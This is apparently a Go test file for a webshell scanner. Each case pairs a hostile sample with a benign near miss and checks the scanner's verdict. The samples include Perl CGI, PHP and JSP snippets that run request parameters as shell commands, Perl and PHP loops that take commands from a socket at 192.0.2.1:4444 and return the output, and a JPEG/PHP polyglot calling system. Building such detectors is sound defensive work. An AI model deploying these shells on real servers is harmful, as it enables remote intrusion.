package webshell

import "testing"

// Cases for the CGI, socket and dispatch idioms: each class of behaviour has one case that
// fires and a near miss from ordinary code (an application, an admin's script). Written for
// these tests after the techniques, none copied from a collection.
var idiomCases = []struct {
	name, file, text string
	verdict          string
	rule             string // must fire ("" for none in particular)
	not              string // must not fire ("" for none)
}{
	// --- Perl CGI
	{"perl sub with a prototype", "a.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nsub run($) { my $c = shift; return `$c`; }\nprint header, run(param('c'));\n", VerdictWebshell, "flow.exec", ""},
	{"perl &call", "a.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nsub run { my ($c) = @_; return `$c`; }\nprint header, &run(param('c'));\n", VerdictWebshell, "flow.exec", ""},
	{"perl own form parser", "a.cgi", "#!/usr/bin/perl\nread(STDIN, $buf, $ENV{'CONTENT_LENGTH'});\nforeach (split(/&/, $buf)) { ($k, $v) = split(/=/); $v =~ tr/+/ /; $v =~ s/%(..)/pack('C', hex($1))/eg; $FORM{$k} = $v; }\nprint \"Content-type: text/plain\\n\\n\";\nprint `$FORM{'cmd'}`;\n", VerdictWebshell, "flow.exec", ""},
	{"perl parser sub fills a global", "a.cgi", "#!/usr/bin/perl\nsub parse { my $q = $ENV{'QUERY_STRING'}; foreach my $p (split(/&/, $q)) { my ($n, $v) = split(/=/, $p); $F{$n} = $v; } }\n&parse();\nprint \"Content-type: text/plain\\n\\n\";\nopen(P, \"$F{'c'} |\"); print <P>;\n", VerdictWebshell, "flow.exec", ""},
	{"perl parser returns a hash", "a.cgi", "#!/usr/bin/perl\nsub parse ($) { my %f; foreach my $p (split(/&/, shift)) { my ($n, $v) = split(/=/, $p, 2); $f{$n} = $v; } return %f; }\nmy %F = parse($ENV{'QUERY_STRING'});\nprint \"Content-type: text/plain\\n\\n\";\nsystem($F{'c'});\n", VerdictWebshell, "flow.exec", ""},
	{"perl settings hash from a file", "a.cgi", "#!/usr/bin/perl\nopen(C, '<', '/etc/app.conf');\nwhile (my $l = <C>) { my ($k, $v) = split(/=/, $l, 2); $conf{$k} = $v; }\nsystem($conf{'backup'});\n", VerdictClean, "", "flow.exec"},
	{"perl body line", "a.cgi", "#!/usr/bin/perl\n$line = <STDIN>;\n($k, $cmd) = split(/=/, $line);\nprint \"Content-type: text/plain\\n\\n\";\nsystem($cmd);\n", VerdictWebshell, "flow.exec", ""},
	{"perl list exec of a shell", "a.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header;\nsystem('/bin/sh', '-c', param('c'));\n", VerdictWebshell, "flow.exec", ""},
	{"perl list exec of a program", "thumb.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header('image/png');\nsystem('/usr/bin/convert', param('src'), '-resize', '64x64', 'png:-');\n", VerdictClean, "", "flow.exec"},
	{"perl exec block of a program", "search.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nmy @words = param('q');\nexec { '/usr/bin/swish-e' } 'swish-e', '-w', @words;\n", VerdictClean, "", "flow.exec"},
	{"perl loop topics apart", "report.cgi", "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header;\nforeach (param('names')) { print escapeHTML($_), \"\\n\"; }\nforeach ('/usr/bin/uptime', '/usr/bin/df -h') { system($_); }\n", VerdictClean, "", "flow.exec"},
	{"perl commands from a socket", "x.pl", "#!/usr/bin/perl\nuse IO::Socket;\n$s = IO::Socket::INET->new(PeerAddr => '192.0.2.1:4444');\nwhile (<$s>) { print $s `$_`; }\n", VerdictWebshell, "net.exec", ""},
	{"perl reads a web page from a socket", "check.pl", "#!/usr/bin/perl\nuse IO::Socket;\n$s = IO::Socket::INET->new(PeerAddr => 'localhost:80');\nprint $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (<$s>) { print if /^HTTP/; }\nsystem('logger', 'checked');\n", VerdictClean, "", "net.exec"},
	// --- PHP
	{"php commands from a socket", "a.php", "<?php $s = stream_socket_client('tcp://192.0.2.1:4444'); while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }", VerdictWebshell, "net.exec", ""},
	{"php smtp client", "mail.php", "<?php $s = fsockopen('localhost', 25); $banner = fgets($s, 512); fwrite($s, \"QUIT\\r\\n\"); echo htmlspecialchars($banner); $up = shell_exec('uptime');", VerdictClean, "", "net.exec"},
	{"php dispatch to a handler's method", "backend.php", "<?php $op = $_REQUEST['op']; $method = strtolower($_REQUEST['method']); $h = new Handler($_REQUEST); if (method_exists($h, $method)) { $h->$method(); } else { $h->index(); }", VerdictClean, "", "flow.callback"},
	{"php class named by a setting", "tabs.php", "<?php foreach ($tabs as $tab) { $o = new $tab['CLASS']($config, $dn); } $cur = $_GET['tab'];", VerdictClean, "", "flow.callback"},
	{"php sql console", "q.php", "<?php $db = new mysqli('localhost', 'u', 'p'); $r = $db->query($_POST['sql']); while ($row = $r->fetch_row()) print_r($row);", VerdictSuspicious, "flow.sql", ""},
	{"php dns query of a header", "login.php", "<?php $resolver = new Net_DNS2_Resolver(); $host = $_SERVER['HTTP_X_FORWARDED_FOR']; $res = $resolver->query($host, 'PTR');", VerdictClean, "", "flow.sql"},
	{"php decompressed data saved", "pdf.php", "<?php $data = file_get_contents($url); $tmp = tempnam(sys_get_temp_dir(), 'pdf'); file_put_contents($tmp, gzuncompress($data));", VerdictClean, "", "write.decoded"},
	{"php upload kept in the session", "import.php", "<?php if (isset($_FILES['f'])) { $x = $_FILES['f']['tmp_name']; $_SESSION['pkg'] = file_get_contents($x); } else { $x = sys_get_temp_dir() . '/pkg' . rand(); file_put_contents($x, $_SESSION['pkg']); }", VerdictClean, "", "flow.write"},
	{"php word inside a longer word", "font.php", "<?php $d = '/CIDSystemInfo << /Registry (Adobe) >>'; $w = file_put_contents($out, $d);", VerdictClean, "", "marker.os-recon"},
	// --- Java
	{"jsp input plus empty text", "a.jsp", `<% String c = request.getParameter("c") + ""; String[] a = {"/bin/sh", "-c", c}; Process p = Runtime.getRuntime().exec(a); %>`, VerdictWebshell, "flow.exec", ""},
}

func TestIdiomCases(t *testing.T) {
	for _, c := range idiomCases {
		t.Run(c.name, func(t *testing.T) {
			r := Scan(c.file, []byte(c.text))
			if r.Verdict != c.verdict {
				t.Errorf("verdict %s (score %d), want %s; reasons %v", r.Verdict, r.Score, c.verdict, r.Reasons)
			}
			if c.rule != "" && !hasRule(r, c.rule) {
				t.Errorf("rule %s did not fire; reasons %v", c.rule, r.Reasons)
			}
			if c.not != "" && hasRule(r, c.not) {
				t.Errorf("rule %s fired; reasons %v", c.not, r.Reasons)
			}
		})
	}
}

// TestImageBytes: compressed pixels that happen to hold "<?" and a space are no PHP; a PHP
// open tag with code in an image is.
func TestImageBytes(t *testing.T) {
	noise := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<? \x8f\x01\xe3$\xff\x00x\x9c\x02\x91<?=\xf3\x10\x88\x00"
	if l := DetectLanguage("logo.png", []byte(noise)); l != LangUnknown {
		t.Errorf("pixels read as %s", l)
	}
	if r := Scan("logo.png", []byte(noise)); r.Verdict != VerdictClean {
		t.Errorf("pixels: %s %v", r.Verdict, r.Reasons)
	}
	poly := "\xff\xd8\xff\xe0\x00\x10JFIF\x00<?= system($_GET['c']); ?>\xff\xd9"
	if r := Scan("a.jpg", []byte(poly)); r.Verdict != VerdictWebshell {
		t.Errorf("polyglot: %s %v", r.Verdict, r.Reasons)
	}
}
